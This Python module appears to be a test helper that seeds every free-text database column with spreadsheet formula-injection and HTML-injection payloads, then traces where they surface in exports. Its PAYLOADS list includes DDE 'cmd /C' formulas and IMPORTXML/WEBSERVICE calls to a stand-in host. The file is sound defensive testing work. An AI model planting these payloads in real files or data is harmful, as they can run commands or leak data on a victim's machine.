"""Texts of a database that spreadsheets, Word and browsers would take for orders, each with where it stands."""

import re
from collections.abc import Iterator, Mapping

from sqlalchemy import Enum, String, Table, bindparam, select, update

from db.base import Base
from db.models.journal import JournalEntry
from db.unit_of_work import UnitOfWork

# Where the payload stands is told in it: {m} is a word of its own for each table, column and row.
PAYLOADS = (
    "={m}+1",
    '=HYPERLINK("http://example.uz","{m}")',
    "=cmd|' /C {m}'!A0",
    "+{m}+1",
    "+cmd|' /C {m}'!A0",
    "-{m}+1",
    "-2+3+cmd|' /C {m}'!A0",
    "@SUM(1,{m})",
    "\t={m}+1",
    "\r={m}+1",
    "\n={m}+1",
    " ={m}+1",
    "{{={m}+1}}",
    '=IMPORTXML("http://example.uz","//{m}")',
    '=WEBSERVICE("http://example.uz/{m}")',
    "http://example.uz/={m}",
    '"={m}+1"',
    "＝{m}+1",  # the wide sign of the East
)
# Beside them what a paper might take for its own marks.
MARKS_UP = ('<b>{m}</b><a href="http://example.uz">', "&lt;{m}&amp;%s{{0}}")
WORD = re.compile(r"ZZ(\d+)Y\d+Z")
# Words of the program, which nobody types: it looks them up, or reckons with them.
_OURS = re.compile(
    r"(_code|_key|_digest|_hash|sha256|uuid|_group|_language|pattern)$|"
    r"^(role|counts|letter|keys|kind|purpose|script|code_text|prefix|edition|form|word|entity|action|host|batch|act)$"
)


def free_columns() -> list[str]:
    """Every column of the models that holds a text of somebody's, as table.column."""
    return [
        f"{table.name}.{column.name}"
        for table in Base.metadata.sorted_tables
        # Nothing changes what the journal says.
        if table is not JournalEntry.__table__
        for column in table.columns
        if isinstance(column.type, String)
        and not isinstance(column.type, Enum)
        and not column.primary_key
        and not column.foreign_keys
        and not _OURS.search(column.name)
    ]


def poison(unit: UnitOfWork, columns: list[str], *, turn: int = 0, kept: Mapping[str, str]) -> None:
    """Write a payload into each of the columns in every row that is there, another one from row to row.

    ``turn`` says with which to begin; ``kept`` are the columns that stay as they are, with the reason.
    """
    payloads = PAYLOADS + MARKS_UP
    for table in Base.metadata.sorted_tables:
        wanted = {name: at for at, name in enumerate(columns) if name.partition(".")[0] == table.name}
        for name, at in wanted.items():
            if name in kept:
                continue
            column = table.c[name.partition(".")[2]]
            rows = [
                {f"pk_{key.name}": value for key, value in zip(table.primary_key, found, strict=True)}
                | {"said": payloads[(at + row + turn) % len(payloads)].format(m=f"ZZ{at}Y{row}Z")}
                for row, found in enumerate(_keys(unit, table))
            ]
            if rows:
                where = [key == bindparam(f"pk_{key.name}") for key in table.primary_key]
                unit.session.connection().execute(
                    update(table).where(*where).values({column.name: bindparam("said")}), rows
                )


def places_in(text: str, columns: list[str]) -> Iterator[str]:
    """The columns whose payloads stand in a text."""
    for found in WORD.finditer(text):
        yield columns[int(found[1])]


def _keys(unit: UnitOfWork, table: Table) -> list[tuple[object, ...]]:
    return [tuple(row) for row in unit.session.execute(select(*table.primary_key).order_by(*table.primary_key))]
